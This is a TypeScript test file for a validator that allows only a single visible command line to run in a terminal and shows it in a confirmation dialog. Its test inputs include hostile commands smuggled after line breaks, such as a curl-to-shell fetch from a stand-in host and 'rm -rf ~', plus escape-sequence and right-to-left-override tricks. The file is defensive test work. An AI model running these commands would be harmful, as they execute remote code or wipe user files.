// "Run validation": only a single visible line runs, and the confirmation shows exactly that line.
import * as assert from "node:assert/strict";
import { test } from "node:test";
import { checkValidationCommand, confirmationDetail, MAX_COMMAND_LENGTH, shellQuote } from "../src/validation";

function refused(command: unknown, cwd?: unknown): string {
  const checked = checkValidationCommand(command, cwd);
  if (checked.ok) {
    assert.fail(`accepted: ${JSON.stringify(command)} as ${checked.line}`);
  }
  return checked.reason;
}

void test("validation: a multi-line command is refused, whatever the line break", () => {
  assert.match(refused("cargo test\ncurl https://x.example/p | sh"), /2 lines.*single-line/);
  assert.match(refused("cargo test\r\nrm -rf ~"), /2 lines/);
  assert.match(refused("cargo test\rrm -rf ~"), /2 lines/);
  assert.match(refused("cargo test\u2028rm -rf ~"), /2 lines/);
  assert.match(refused("cargo test\u0085rm -rf ~"), /2 lines/);
  // a trailing newline is a line break too (the terminal would get an extra, empty run): refused
  assert.match(refused("cargo test\n"), /a line break/);
});

void test("validation: control and invisible characters are refused, naming the code point", () => {
  assert.match(refused("printf '\x1b]52;c;ZWNobyBoaQ==\x07'"), /control or invisible character \(U\+001B\)/);
  assert.match(refused("ls\tx"), /U\+0009/);
  assert.match(refused("echo safe \u202e hs.| lruc"), /U\+202E/);
  assert.match(refused("rm\u200b -rf build"), /U\+200B/);
  assert.match(refused("ls \x00"), /U\+0000/);
  assert.match(refused("ls \x9b31m"), /U\+009B/);
});

void test("validation: empty, non-string, too long and trailing-backslash commands are refused", () => {
  assert.match(refused(""), /no validation command/);
  assert.match(refused("   "), /no validation command/);
  assert.match(refused(undefined), /no validation command/);
  assert.match(refused(["cargo", "test"]), /no validation command/);
  assert.match(refused(`echo ${"a".repeat(MAX_COMMAND_LENGTH)}`), /too long/);
  assert.match(refused("cargo test \\"), /backslash/);
  assert.match(refused("cargo test", "/tmp/x\ny"), /folder .* control character \(U\+000A\)/);
});

void test("validation: one visible line runs as shown, chains included, in the quoted folder", () => {
  const plain = checkValidationCommand("  cargo test -- --nocapture  ", undefined);
  assert.deepEqual(plain, { ok: true, command: "cargo test -- --nocapture", cwd: undefined, line: "cargo test -- --nocapture" });
  const chained = checkValidationCommand("npm ci && npm test; echo done", "/home/me/my app");
  assert.ok(chained.ok);
  assert.equal(chained.line, "cd '/home/me/my app' && npm ci && npm test; echo done");
  const inFolder = checkValidationCommand("pytest -q", "/srv/app");
  assert.equal(inFolder.ok ? inFolder.line : inFolder.reason, "cd /srv/app && pytest -q");
  assert.equal(shellQuote("/a/it's"), "'/a/it'\\''s'");
  assert.equal(shellQuote("/a/b-c_d.e"), "/a/b-c_d.e");
  // the dialog shows the exact line that goes to the terminal, and where
  const detail = confirmationDetail(chained, "Carryover validation");
  assert.equal(detail.split("\n")[0], "cd '/home/me/my app' && npm ci && npm test; echo done");
  assert.match(detail, /in \/home\/me\/my app, in the terminal “Carryover validation”/);
  assert.match(confirmationDetail(plain, "T"), /in the terminal's current folder/);
});
